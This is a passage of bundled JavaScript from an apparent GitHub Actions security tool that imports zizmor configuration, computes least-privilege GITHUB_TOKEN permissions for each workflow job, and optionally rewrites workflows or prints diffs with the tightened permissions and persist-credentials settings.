        throw new errors/* ConfigurationError */.j1('invalid-yaml', 'zizmor configuration is nested too deeply to be read.', { file });
    }
    const yamlError = doc.errors[0];
    if (yamlError) {
        const pos = lineCounter.linePos(yamlError.pos[0]);
        // The code, not the parser's message: a file that is not YAML must not be quoted.
        throw new errors/* ConfigurationError */.j1('invalid-yaml', `zizmor configuration is not valid YAML (${yamlError.code}).`, { file, line: pos.line, column: pos.col }, 'Fix the YAML at that line, or set import-zizmor-config: false.');
    }
    const config = { file, disabled: new Map(), ignores: [], settings: {} };
    const root = doc.contents;
    if (root === null || ((0,dist/* isScalar */.jn)(root) && root.value === null))
        return config;
    if (!(0,dist/* isMap */.jh)(root))
        throw fail(root, 'zizmor configuration must be a mapping', 'Write `rules:` at the top.');
    const rules = root.get('rules', true);
    if (rules === undefined || ((0,dist/* isScalar */.jn)(rules) && rules.value === null))
        return config;
    if (!(0,dist/* isMap */.jh)(rules))
        throw fail(rules, 'zizmor configuration: rules must be a mapping of rule ids', "See zizmor's docs.");
    for (const pair of rules.items) {
        const id = (0,dist/* isScalar */.jn)(pair.key) ? String(pair.key.value) : '';
        const body = pair.value;
        if (!/^[a-z][a-z0-9-]*$/.test(id))
            throw fail(pair.key, 'zizmor configuration: a rule id is not kebab-case', 'Use the audit ids.');
        if (body === null || ((0,dist/* isScalar */.jn)(body) && body.value === null))
            continue;
        if (!(0,dist/* isMap */.jh)(body))
            throw fail(body, `zizmor configuration: rules.${id} must be a mapping`, 'Write disable, ignore or config under it.');
        readRule(id, body, config, fail, lineOf);
    }
    return config;
}
function readRule(id, body, config, fail, lineOf) {
    const disable = body.get('disable', true);
    if (disable !== undefined) {
        if (!(0,dist/* isScalar */.jn)(disable) || typeof disable.value !== 'boolean')
            throw fail(disable, `zizmor configuration: rules.${id}.disable must be true or false`, 'Write true or false.');
        if (disable.value)
            config.disabled.set(id, lineOf(disable));
    }
    const ignore = body.get('ignore', true);
    if (ignore !== undefined && !((0,dist/* isScalar */.jn)(ignore) && ignore.value === null)) {
        if (!(0,dist/* isSeq */.oP)(ignore))
            throw fail(ignore, `zizmor configuration: rules.${id}.ignore must be a list`, 'Write one "- file.yml:line" per entry.');
        for (const item of ignore.items) {
            const text = (0,dist/* isScalar */.jn)(item) ? String(item.value) : '';
            const match = IGNORE_ENTRY.exec(text);
            if (!match)
                throw fail(item, `zizmor configuration: an entry of rules.${id}.ignore is not file.yml[:line[:column]]`, 'Write the workflow file name, then optionally :line and :column (1-based).');
            const entry = { rule: id, filename: match[1], text, at: lineOf(item) };
            if (match[2])
                entry.line = Number(match[2]);
            if (match[3])
                entry.column = Number(match[3]);
            config.ignores.push(entry);
        }
    }
    const settings = body.get('config', true);
    if (!(0,dist/* isMap */.jh)(settings))
        return;
    if (id === 'forbidden-uses') {
        const parsed = forbiddenUses(plainLists(settings));
        if (typeof parsed === 'string')
            throw fail(settings, `zizmor configuration: rules.forbidden-uses.config is not valid: ${parsed}`, 'Write allow: [...] or deny: [...].');
        config.settings.forbiddenUses = parsed;
    }
    if (id === 'dependabot-cooldown') {
        const days = settings.get('days', true);
        if (days === undefined)
            return;
        if (!(0,dist/* isScalar */.jn)(days) ||
            typeof days.value !== 'number' ||
            !Number.isInteger(days.value) ||
            days.value < 1 ||
            days.value > 90)
            throw fail(days, 'zizmor configuration: rules.dependabot-cooldown.config.days must be a whole number from 1 to 90', 'Write a number of days.');
        config.settings.dependabotCooldownDays = days.value;
    }
}
/** A mapping of lists of scalars as plain data, built node by node (an alias is left out, never expanded). */
function plainLists(map) {
    const out = {};
    for (const pair of map.items) {
        if (!(0,dist/* isScalar */.jn)(pair.key))
            continue;
        const value = pair.value;
        out[String(pair.key.value)] = (0,dist/* isSeq */.oP)(value)
            ? value.items.map((item) => ((0,dist/* isScalar */.jn)(item) ? item.value : undefined))
            : (0,dist/* isScalar */.jn)(value)
                ? value.value
                : undefined;
    }
    return out;
}
/** Splits findings into those zizmor's configuration ignores (same rule id) and the rest. */
function applyZizmorConfig(findings, config) {
    if (!config)
        return { findings: [...findings], ignored: [] };
    const kept = [];
    const ignored = [];
    for (const finding of findings) {
        const disabledAt = config.disabled.get(finding.rule);
        if (disabledAt !== undefined) {
            ignored.push({ finding, by: `rules.${finding.rule}.disable`, line: disabledAt });
            continue;
        }
        const name = (0,external_node_path_.basename)(finding.file);
        const entry = config.ignores.find((e) => e.rule === finding.rule &&
            e.filename === name &&
            (e.line === undefined || e.line === finding.line) &&
            (e.column === undefined || e.column === finding.column));
        if (entry)
            ignored.push({ finding, by: `rules.${entry.rule}.ignore: ${entry.text}`, line: entry.at });
        else
            kept.push(finding);
    }
    return { findings: kept, ignored };
}

;// CONCATENATED MODULE: ./packages/permissions/src/command.ts












/** Every rule the command reports: dangerous patterns, permissions, and files GitHub would reject. */
const hardenPermissionsRules = [...patternRules, ...permissionRules, (0,src/* invalidWorkflowRule */.RX)('harden-permissions')];
const COMMAND_NAME = 'harden-permissions';
/**
 * What `paths` means when not given: every workflow, every action.yml (composite actions included)
 * and Dependabot's configuration.
 */
const DEFAULT_PATHS = [
    '.github/workflows/*.yml',
    '.github/workflows/*.yaml',
    '**/action.yml',
    '**/action.yaml',
    // A glob, so that a repository without one is no error.
    '.github/dependabot.{yml,yaml}',
];
/** How many called workflows in other repositories one run reads at most (a cycle or a fan-out stops here). */
const MAX_REMOTE_WORKFLOWS = 50;
const hardenPermissionsCommand = (0,command/* defineCommand */.N)({
    name: COMMAND_NAME,
    description: 'Computes the least-privilege GITHUB_TOKEN permissions of every job from what its steps really do, reports grants that are larger, and writes the minimal map on request.',
    inputs: [
        {
            name: 'paths',
            description: 'Workflow, action.yml and Dependabot configuration files to audit: globs, one per line (`!pattern` excludes). Default: every .github/workflows/*.y*ml, every action.y*ml in the repository and .github/dependabot.y*ml.',
            positional: true,
        },
        {
            name: 'fix',
            description: 'false: report only; true: write the minimal permissions into the files; diff: print the change as a unified diff and write nothing.',
            default: 'false',
        },
        {
            name: 'fail-on',
            description: 'The least severity that fails the run: error, warning, note or never.',
            default: 'error',
        },
        {
            name: 'sarif-file',
            description: 'Where to write the SARIF 2.1.0 report. Default: $RUNNER_TEMP/harden-permissions.sarif.',
            default: '',
        },
        { name: 'policy', description: 'The paved-road policy file (exceptions).', default: src_policy/* DEFAULT_POLICY_FILE */.mY },
        {
            name: 'github-token',
            description: 'Token to read reusable workflows called from other repositories (contents: read on them). Optional.',
            default: '',
            secret: true,
        },
        {
            name: 'show-summary',
            description: 'Write the findings and the permissions table to the job summary.',
            default: 'true',
        },
        {
            name: 'persona',
            description: "Which findings show: regular (actionable ones), pedantic (plus code smells such as undocumented-permissions) or auditor (everything, likely false positives too). Also the policy's harden-permissions.persona.",
            default: 'regular',
        },
    ],
    outputs: [
        ...audit/* AUDIT_OUTPUTS */.jj,
        {
            name: 'permissions-file',
            description: 'Path of a JSON file with the computed minimal permissions per file per job.',
        },
        {
            name: 'fixed-files',
            description: 'Files the fix changed (fix: true) or would change (fix: diff), one per line.',
        },
    ],
    rules: hardenPermissionsRules,
    workerTask: (payload) => auditTask(payload),
    parse(inputs, context) {
        const token = inputs.get('github-token');
        return {
            paths: inputs.getList('paths'),
            ...(0,audit/* parseAuditInputs */.aV)(inputs, context, 'harden-permissions'),
            // Unset, the policy's persona applies (read in run, where the policy is loaded), else regular.
            ...(inputs.isSet('persona') ? { persona: (0,src_inputs/* parsePersona */.YX)(inputs.get('persona')) } : {}),
            ...(token ? { githubToken: token } : {}),
        };
    },
    async run(options, context) {
        const policy = (0,src_policy/* loadPolicy */.tb)(options.policy, { workspace: context.workspace, required: options.policyRequired });
        (0,src_policy/* checkSectionKeys */.OR)(policy, COMMAND_NAME, [
            ...hardenPermissionsCommand.inputs.map((input) => input.name),
            ...AUDIT_POLICY_KEYS,
        ]);
        const zizmor = importedZizmorConfig(policy, context.workspace);
        // The policy's own settings win over those imported from zizmor's configuration.
        const settings = { ...zizmor?.settings, ...auditSettings(policy, COMMAND_NAME) };
        const files = (0,src_files/* expandPaths */.pR)(options.paths, {
            cwd: context.workspace,
            defaults: DEFAULT_PATHS,
            // Of a directory, only YAML files: a README or a key next to the workflows is never parsed.
            inDirectory: (file) => /\.ya?ml$/i.test(file),
        });
        if (!files.length && options.paths.length) {
            throw new errors/* ConfigurationError */.j1('no-files', `No file matches ${options.paths.join(', ')}.`, undefined, 'Check the paths input.');
        }
        const loadLocal = localLoader(context.workspace);
        const load = (file) => (0,src/* loadWorkflowPath */.Hy)((0,external_node_path_.resolve)(context.workspace, file), file, { workspace: context.workspace });
        // Called workflows in other repositories are fetched first (that needs every file loaded); without a
        // token each file is loaded, audited and reported in turn, and its model dropped: memory stays flat.
        const preloaded = new Map();
        let remote = new Map();
        if (options.githubToken) {
            for (const file of files)
                if (!isDependabotPath(file))
                    preloaded.set(file, load(file));
            remote = await fetchRemoteWorkflows([...preloaded.values()], loadLocal, options.githubToken, context);
        }
        const fixedFiles = [];
        const diffs = [];
        const fixNotes = [];
        let audited = [];
        const threads = options.fix === 'false' && !options.githubToken && context.workerScript
            ? (0,parallel/* threadCount */.Cc)(context.env, files.length, { minItemsPerThread: MIN_FILES_PER_THREAD })
            : 1;
        if (threads > 1) {
            // Large runs, report only: the files are spread over worker threads (this one included) and the
            // per-file results put back in file order, so everything below is what one thread would produce.
            context.debug(`auditing ${files.length} files in ${threads} threads`);
            const payload = { workspace: context.workspace, files, rows: options.showSummary, settings };
            audited = await (0,parallel/* parallelMap */.mK)({
                command: COMMAND_NAME,
                script: context.workerScript,
                threads,
                count: files.length,
                payload,
                local: auditTask(payload),
            });
        }
        else {
            for (const file of files) {
                if (isDependabotPath(file)) {
                    audited.push(dependabotAudit(file, context.workspace, settings));
                    continue;
                }
                const wf = preloaded.get(file) ?? load(file);
                preloaded.delete(file);
                let entry = command_audit(wf, loadLocal, remote);
                if (options.fix !== 'false') {
                    const result = combinedFix(entry);
                    for (const note of result.notes)
                        fixNotes.push(`${entry.wf.file}: ${note}`);
                    if (result.changed) {
                        fixedFiles.push(entry.wf.file);
                        if (options.fix === 'diff') {
                            diffs.push((0,create/* createTwoFilesPatch */.ss)(`a/${entry.wf.file}`, `b/${entry.wf.file}`, entry.wf.text, result.text, '', '', {
                                context: 3,
                            }));
                        }
                        else {
                            (0,src_files/* writeFileAtomic */.Zf)((0,external_node_path_.resolve)(context.workspace, entry.wf.file), result.text, {
                                displayName: entry.wf.file,
                                workspace: context.workspace,
                                keepBom: true,
                            });
                            // Report what is left after the fix.
                            entry = command_audit((0,src/* loadWorkflowFile */.md)(entry.wf.file, result.text), loadLocal, remote);
                        }
                    }
                }
                audited.push(fileAudit(entry, options.showSummary, settings));
            }
        }
        const findings = [];
        const permissions = {};
        const rows = [];
        const sources = new Map();
        const sarifTexts = new Map();
        for (const entry of audited) {
            sources.set(entry.file, entry.source);
            for (const finding of entry.findings)
                findings.push(finding);
            entry.findings.forEach((finding, i) => sarifTexts.set(finding, entry.sarif[i]));
            if (entry.permissions)
                permissions[entry.file] = entry.permissions;
            rows.push(...entry.rows);
        }
        if (options.fix !== 'false') {
            for (const note of fixNotes)
                context.log(note);
            if (options.fix === 'diff')
                for (const diff of diffs)
                    context.log(diff.trimEnd());
        }
        (0,external_node_fs_.mkdirSync)(context.tempDir, { recursive: true });
        const permissionsFile = (0,external_node_path_.join)(context.tempDir, 'harden-permissions-permissions.json');
        (0,src_files/* writeFileAtomic */.Zf)(permissionsFile, `${JSON.stringify(permissions, null, 2)}\n`);
        const persona = options.persona ?? (0,src_policy/* policyChoice */.sd)(policy, COMMAND_NAME, 'persona', rules/* PERSONAS */.Ud) ?? 'regular';
        const registry = (0,audit/* auditRules */.$8)(hardenPermissionsRules);
        const shown = findings.filter((finding) => (0,rules/* personaShows */.pT)(registry.get(finding.rule), persona));
        const hidden = findings.length - shown.length;
        const fromZizmor = applyZizmorConfig(shown, zizmor);
        const result = (0,audit/* finishAudit */.ls)({
            command: COMMAND_NAME,
            findings: fromZizmor.findings,
            rules: hardenPermissionsRules,
            ...(policy ? { policy } : {}),
            now: context.now,
            failOn: options.failOn,
            readSource: (file) => sources.get(file) ?? safeRead((0,external_node_path_.resolve)(context.workspace, file), context.workspace),
            files,
            sarifFile: options.sarifFile,
            sarifResultText: (finding) => sarifTexts.get(finding),
            summaryTitle: 'harden-permissions',
            summary: options.showSummary,
            summarySections: options.showSummary
                ? [
                    permissionsTable(rows),
                    ...(fixNotes.length || fixedFiles.length ? [fixSection(options.fix, fixedFiles, fixNotes)] : []),
                    ...(zizmor && fromZizmor.ignored.length ? [zizmorSection(zizmor, fromZizmor.ignored)] : []),
                    ...(hidden
                        ? [
                            `${hidden} finding${hidden === 1 ? '' : 's'} of rules for a wider persona not shown (persona: ${persona}).`,
                        ]
                        : []),
                ]
                : [],
            json: {
                permissions,
                ...(hidden ? { hiddenByPersona: hidden } : {}),
                ...(zizmor
                    ? {
                        ignored: fromZizmor.ignored.map(({ finding, by, line }) => ({
                            ...(0,json/* findingsToJson */.W)([finding])[0],
                            ignoredBy: { file: zizmor.file, line, entry: by },
                        })),
                    }
                    : {}),
                ...(options.fix === 'diff' ? { diff: diffs.join('') } : {}),
                ...(options.fix !== 'false' ? { fixed: fixedFiles } : {}),
            },
            outputs: { 'permissions-file': permissionsFile, 'fixed-files': fixedFiles.join('\n') },
        });
        if (options.fix === 'diff' && diffs.length)
            result.text = diffs.join('');
        return result;
    },
});
/**
 * zizmor's configuration when the policy sets `import-zizmor-config: true`: the first of
 * ZIZMOR_CONFIG_FILES. Asked for and absent, or unreadable, is bad input: its ignores would be lost.
 */
function importedZizmorConfig(policy, workspace) {
    if (!policy || !(0,src_policy/* policyBoolean */.F0)(policy, COMMAND_NAME, 'import-zizmor-config'))
        return undefined;
    const file = findZizmorConfig(workspace);
    if (!file)
        throw new errors/* ConfigurationError */.j1('missing-file', `${COMMAND_NAME}.import-zizmor-config is true, but there is no ${ZIZMOR_CONFIG_FILES.join(', ')}.`, { file: policy.file, ...policy.positionOf([COMMAND_NAME, 'import-zizmor-config']) }, 'Add zizmor.yml, or remove import-zizmor-config.');
    return loadZizmorConfig(workspace, file);
}
/** The findings zizmor's configuration ignored, each with the entry that did (they never pass unseen). */
function zizmorSection(config, ignored) {
    return [
        `### Ignored by ${(0,summary/* escapeMarkdown */.FV)(config.file)} (${ignored.length})`,
        '',
        '| Location | Rule | Entry |',
        '| --- | --- | --- |',
        ...ignored.map(({ finding, by, line }) => `| ${(0,summary/* escapeMarkdown */.FV)(`${finding.file}:${finding.line}`)} | ${(0,summary/* escapeMarkdown */.FV)(finding.rule)} | ${(0,summary/* escapeMarkdown */.FV)(`${config.file}:${line}: ${by}`)} |`),
    ].join('\n');
}
/**
 * Both fixes on one file: the minimal permissions first, then `persist-credentials: false` on the
 * checkouts of jobs that do not use those credentials (a job that pushes keeps them, and keeps its
 * contents: write). The result must still load without errors, or nothing is written.
 */
function combinedFix(entry) {
    const notes = [];
    const permissions = fixPermissions(entry.wf, entry.computed);
    for (const skip of permissions.skipped)
        notes.push(`job ${skip.job}: permissions not changed: ${skip.reason}.`);
    for (const kept of permissions.kept)
        notes.push(`job ${kept.job}: keeps ${kept.scopes}: ${kept.because}.`);
    if (permissions.topSkipped && permissions.changed)
        notes.push(`top-level permissions not changed: ${permissions.topSkipped}.`);
    if (entry.wf.kind !== 'workflow' || entry.wf.errors.length)
        return { text: entry.wf.text, changed: false, notes };
    const afterPermissions = permissions.changed
        ? (0,src/* loadWorkflowFile */.md)(entry.wf.file, permissions.text, { validate: false })
        : entry.wf;
    const artipacked = fixArtipacked(afterPermissions);
    const keep = artipacked.edits.filter((_, i) => {
        const job = artipacked.fixed[i]?.job;
        const need = job ? entry.computed.get(job) : undefined;
        if (job && need?.usesGitCredentials) {
            notes.push(`job ${job}: checkout keeps its credentials: ${need.gitCredentialsBy ?? 'a later step pushes with them'}.`);
            return false;
        }
        return true;
    });
    const text = keep.length ? applyEdits(afterPermissions.text, keep) : afterPermissions.text;
    if (text !== afterPermissions.text && (0,src/* loadWorkflowFile */.md)(entry.wf.file, text, { validate: false }).errors.length) {
        notes.push('persist-credentials not set: the edit would not parse.');
        return { text: permissions.text, changed: permissions.changed, notes };
    }
    return { text, changed: text !== entry.wf.text, notes };
}
/** How many files make a worker thread worth starting (it loads the bundle and the schema first). */
const MIN_FILES_PER_THREAD = 250;
/**
 * `rows`: false when no summary is shown, so its table rows are not worked out. `settings`: what the
 * policy asks of the policy-driven audits.
 */
function fileAudit(entry, rows = true, settings = {}) {
    const { wf } = entry;
    const source = (0,suppression/* mayHaveSuppressions */._i)(wf.text) ? wf.text : '';
    const registry = (0,audit/* auditRules */.$8)(hardenPermissionsRules);
    const withSarif = (findings) => ({
        findings,
        sarif: findings.map((finding) => (0,sarif/* sarifResultText */.Yx)(finding, registry)),
    });
    const perFile = {};
    for (const [job, need] of entry.computed)
        perFile[job] = need.scopes;
    let findings = [
        ...permissionFindings(wf, entry.computed),
        ...auditPatterns(wf, { settings }).map((f) => credentialsInUse(f, entry)),
    ];
    if (wf.errors.length) {
        // The workflow-level verdict weighs every job; with a job left out (see audit) it cannot be made.
        const partial = wf.jobs.some((job) => !entry.computed.has(job.id));
        if (partial)
            findings = findings.filter((f) => !(f.rule === EXCESSIVE_PERMISSIONS && f.job === undefined));
        return { file: wf.file, source, ...withSarif([...(0,src/* invalidWorkflowFindings */.nK)(wf), ...findings]), rows: [] };
    }
    return {
        file: wf.file,
        source,
        ...withSarif(findings),
        permissions: perFile,
        rows: rows ? permissionRows(entry) : [],
    };
}
/**
 * Reads and audits Dependabot's configuration (never rewritten). A file that cannot be read, or is not
 * YAML, is an `invalid-workflow` finding at the spot, as for a workflow.
 */
function dependabotAudit(file, workspace, settings) {
    const registry = (0,audit/* auditRules */.$8)(hardenPermissionsRules);
    const invalid = (message, line, column) => ({
        rule: src/* INVALID_WORKFLOW */.cf,
        severity: 'error',
        message,
        file,
        line,
        column,
    });
    let text = '';
    const findings = [];
    try {
        text = (0,src_files/* readTextFile */.Gu)((0,external_node_path_.resolve)(workspace, file), {
            workspace,
            displayName: file,
            kind: 'Dependabot configuration',
            maxBytes: MAX_DEPENDABOT_BYTES,
        });
    }
    catch (error) {
        if (!(0,errors/* isConfigurationError */.p0)(error))
            throw error;
        findings.push(invalid(error.message, error.location?.line ?? 1, error.location?.column ?? 1));
    }
    if (!findings.length) {
        const dep = loadDependabotFile(file, text);
        for (const error of dep.errors)
            findings.push(invalid(error.message, error.line, error.column));
        for (const finding of auditDependabot(dep, { settings }))
            findings.push(finding);
    }
    return {
        file,
        source: (0,suppression/* mayHaveSuppressions */._i)(text) ? text : '',
        findings,
        sarif: findings.map((finding) => (0,sarif/* sarifResultText */.Yx)(finding, registry)),
        rows: [],
    };
}
/**
 * An artipacked finding on a job where a later step may use the persisted credentials (a step that
 * pushes, or code the audit does not read): the fix leaves that checkout alone, so the finding says
 * why and promises no fix.
 */
function credentialsInUse(finding, entry) {
    if (finding.rule !== 'artipacked' || !finding.job)
        return finding;
    const by = entry.computed.get(finding.job)?.gitCredentialsBy;
    if (by === undefined || finding.message.includes(' pushes with it.'))
        return finding;
    const { fix: _fix, ...rest } = finding;
    return {
        ...rest,
        message: `${finding.message.replace(/ Set persist-credentials: false unless a later step pushes\.$/, '')} ${by[0].toUpperCase()}${by.slice(1)} may use them, so the fix leaves this checkout alone: set persist-credentials: false if it does not push with them.`,
    };
}
/** Index -> FileAudit for one thread: local files are read once per thread. */
function auditTask(payload) {
    const loadLocal = localLoader(payload.workspace);
    const none = new Map();
    return (index) => {
        const file = payload.files[index];
        if (isDependabotPath(file))
            return dependabotAudit(file, payload.workspace, payload.settings);
        const wf = (0,src/* loadWorkflowPath */.Hy)((0,external_node_path_.resolve)(payload.workspace, file), file, { workspace: payload.workspace });
        return fileAudit(command_audit(wf, loadLocal, none), payload.rows, payload.settings);
    };
}
/** Loads the workflow's files and computes every job's permissions. */
function command_audit(wf, loadLocal, remote) {
    const computed = new Map();
    for (const job of wf.jobs) {
        // A job with an invalid spot may have lost steps in it: what it needs is not worked out.
        if (wf.errors.some((error) => jobContains(wf, job, error.line)))
            continue;
        computed.set(job.id, computeJobPermissions(wf, job, { loadLocal, remote: (uses) => remote.get(uses) }));
    }
    return { wf, computed };
}
/** Whether a line of the file falls within a job, from its key to the end of its mapping. */
function jobContains(wf, job, line) {
    const end = job.node.range?.[1];
    return line >= job.position.line && end !== undefined && line <= (0,src/* positionAt */.t$)(wf, end).line;
}
function safeRead(path, workspace) {
    try {
        return (0,src_files/* readTextFile */.Gu)(path, { workspace });
    }
    catch {
        return undefined;
    }
}
/** Local files (`./.github/workflows/x.yml`, `./action/action.yml`), read once each. */
function localLoader(workspace) {
    const cache = new Map();
    return (path) => {
        const normal = path.replace(/^\.\//, '');
        if (cache.has(normal))
            return cache.get(normal);
        const absolute = (0,external_node_path_.resolve)(workspace, normal);
        const wf = absolute.startsWith((0,external_node_path_.resolve)(workspace)) && (0,external_node_fs_.existsSync)(absolute)
            ? (0,src/* loadWorkflowPath */.Hy)(absolute, normal, { workspace })
            : undefined;
        cache.set(normal, wf);
        return wf;
    };
}
/** `owner/repo/path@ref` of a job-level `uses:` that names a workflow in another repository. */
function remoteCalls(wf) {
    return wf.jobs
        .map((job) => job.uses?.value.trim())
        .filter((uses) => !!uses && !uses.startsWith('./') && /^[^/]+\/[^/]+\/.+@.+$/.test(uses) && !lookupAction(uses));
}
/**
 * Reads every reusable workflow called from another repository through the contents API (with the
 * given token), following their own calls. Without a token nothing is fetched: those calls are unknown.
 */
async function fetchRemoteWorkflows(files, loadLocal, token, context) {
    const resolved = new Map();
    if (!token)
        return resolved;
    const queue = [];
    const enqueue = (wf) => {
        if (wf)
            for (const call of remoteCalls(wf))
                if (!resolved.has(call) && !queue.includes(call))
                    queue.push(call);
    };
    for (const wf of files) {
        enqueue(wf);
        for (const job of wf.jobs)
            if (job.uses?.value.startsWith('./'))
                enqueue(loadLocal(job.uses.value));
    }
    while (queue.length && resolved.size < MAX_REMOTE_WORKFLOWS) {
        const uses = queue.shift();
        const match = /^([^/]+)\/([^/]+)\/(.+)@(.+)$/.exec(uses);
        const [, owner, repo, path, ref] = match;
        const url = `${context.apiUrl.replace(/\/+$/, '')}/repos/${owner}/${repo}/contents/${path.split('/').map(encodeURIComponent).join('/')}?ref=${encodeURIComponent(ref)}`;
        try {
            const response = await (0,http/* proxiedFetch */.i)(url, {
                headers: {
                    authorization: `Bearer ${token}`,
                    accept: 'application/vnd.github.raw+json',
                    'x-github-api-version': '2022-11-28',
                    'user-agent': 'paved-road',
                },
                signal: AbortSignal.timeout(30_000),
            }, context.env);
            if (!response.ok) {
                resolved.set(uses, { error: `GET ${url.replace(/\?.*$/, '')} answered ${response.status}` });
                continue;
            }
            const body = await response.text();
            const text = body.trimStart().startsWith('{') ? decodeContents(body) : body;
            const file = (0,src/* loadWorkflowFile */.md)(uses, text, { kind: 'workflow' });
            resolved.set(uses, { file });
            enqueue(file);
            context.debug(`read ${uses} through the API`);
        }
        catch (error) {
            resolved.set(uses, { error: (0,errors/* errorMessage */.gJ)(error) });
        }
    }
    return resolved;
}
/** The contents API's JSON form: base64 `content`. */
function decodeContents(body) {
    const parsed = JSON.parse(body);
    if (parsed.encoding === 'base64' && typeof parsed.content === 'string')
        return Buffer.from(parsed.content, 'base64').toString('utf8');
    throw new Error('the contents API answered without file content');
}
function describeGrant(audited, jobId) {
    const job = audited.wf.jobs.find((j) => j.id === jobId);
    if (!job)
        return '';
    const grant = effectiveGrant(audited.wf, job);
    if (grant.kind === 'default')
        return 'default token';
    if (grant.kind === 'map')
        return `${formatScopes(grant.scopes)}${grant.level === 'workflow' ? ' (workflow)' : ''}`;
    return `${grant.kind}${grant.level === 'workflow' ? ' (workflow)' : ''}`;
}
/** The summary rows of one file: current grant vs computed minimum, per job. */
function permissionRows(entry) {
    const rows = [];
    for (const [job, need] of entry.computed) {
        const current = entry.wf.kind === 'workflow' ? describeGrant(entry, job) : '(caller grants)';
        rows.push(`| ${(0,summary/* escapeMarkdown */.FV)(entry.wf.file)} | ${(0,summary/* escapeMarkdown */.FV)(job)} | ${(0,summary/* escapeMarkdown */.FV)(current)} | ${(0,summary/* escapeMarkdown */.FV)(formatScopes(need.scopes))} | ${explainedCell(need)} |`);
    }
    return rows;
}
/** `yes`, or `no` and why: uses of the token not worked out, steps that may use more (rights kept). */
function explainedCell(need) {
    if (need.explained)
        return 'yes';
    const why = [];
    if (need.unknown.length)
        why.push(`${need.unknown.length} unknown`);
    if (need.mayUse.length) {
        const steps = [...new Set(need.mayUse.map((use) => use.step ?? use.message))];
        why.push(`may use more: ${steps.length === 1 ? `step ${steps[0]}` : `${steps.length} steps`}`);
    }
    return `no (${why.join('; ')})`;
}
function permissionsTable(rows) {
    if (!rows.length)
        return '### Permissions\n\nNo jobs audited.';
    return [
        '### Permissions',
        '',
        '| File | Job | Current | Computed minimum | Fully explained |',
        '| --- | --- | --- | --- | --- |',
        ...rows,
    ].join('\n');
}
function fixSection(mode, fixed, notes) {
    const verb = mode === 'diff' ? 'Would change' : 'Changed';
    return [
        `### Fix`,
        '',
        fixed.length ? `${verb}: ${fixed.map((f) => `\`${(0,summary/* escapeMarkdown */.FV)(f)}\``).join(', ')}` : 'No file changed.',
        '',
        ...notes.map((n) => `- ${(0,summary/* escapeMarkdown */.FV)(n)}`),
    ].join('\n');
}

;// CONCATENATED MODULE: ./packages/permissions/src/index.ts










/***/ })

};
